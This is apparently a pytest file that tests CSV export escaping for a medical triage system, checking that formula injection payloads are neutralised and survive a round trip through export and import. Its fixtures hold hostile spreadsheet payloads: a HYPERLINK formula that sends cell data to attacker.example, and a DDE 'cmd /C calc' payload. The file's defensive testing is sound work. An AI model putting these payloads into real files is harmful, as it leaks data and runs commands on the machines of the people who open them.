"""CSV formula injection (OWASP "CSV Injection"): text a spreadsheet would run stays inert text,
in plain and de-identified exports, and the importer reads it back unchanged."""

from __future__ import annotations

import csv
from dataclasses import replace

import pytest

from fixtures_export import PASSWORD, inst, template  # noqa: F401 - fixtures
from triage.export import export_cases
from triage.export.csv import FORMULA_TRIGGERS, escape_cell, unescape_cell
from triage.export.importer import import_cases
from triage.intake import parse_intake
from triage.records import Decision
from triage.store import CaseStore

COMPLAINT = '=HYPERLINK("http://attacker.example/?d="&A1,"chest pain")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
REASON = "+1-2 looks worse than the vitals"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")


def _add_hostile_case(inst) -> int:
    intake = parse_intake({"name": NAME, "age_years": "52", "sex": "F", "complaint": COMPLAINT,
                           "heart_rate": "90", "spo2": "97"})
    case_id = inst.store.create_case(inst.nurse, intake, None)
    inst.store.start_review(inst.clinician, case_id)
    inst.store.review(inst.clinician, case_id, Decision.OVERRIDE, 2, REASON)
    return case_id


@pytest.mark.parametrize("deidentify", [False, True])
def test_no_cell_starts_with_a_formula_character(inst, tmp_path, deidentify):
    _add_hostile_case(inst)
    result = export_cases(inst.store, inst.admin, "csv", tmp_path / "out.csv", deidentify=deidentify)
    rows = list(csv.reader(open(result.path, encoding="utf-8", newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in FORMULA_TRIGGERS]
    raw = result.path.read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in raw  # escaped and quoted, as OWASP recommends
    if not deidentify:
        assert "\"'@SUM(1+1)" in raw and "\"'+1-2 looks worse" in raw


def test_csv_round_trip_restores_the_original_text(inst, tmp_path):
    case_id = _add_hostile_case(inst)
    exported = export_cases(inst.store, inst.admin, "csv", tmp_path / "out.csv")
    with CaseStore(tmp_path / "target") as store:
        admin = store.accounts.create_first_admin("admin2", "Admin", PASSWORD)
        import_cases(store, admin, exported.path)
        copy = next(d for d in store.iter_cases(admin) if d.patient.name == NAME)
    original = inst.store.case_detail(inst.clinician, case_id)
    assert copy.complaint == original.complaint == COMPLAINT
    assert copy.latest_review.reason == REASON


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'quoted", "''", "'=x",
                                   "\uff1d1+1", "plain", "", "a=b"])
def test_escape_is_reversible_and_inert(value):
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    assert escaped[:1] not in DANGEROUS
    if value and value[0] not in DANGEROUS and value[0] != "'":
        assert escaped == value  # ordinary text is not touched


def test_numbers_stay_numbers():
    assert escape_cell(-3) == -3 and escape_cell(-0.5) == -0.5
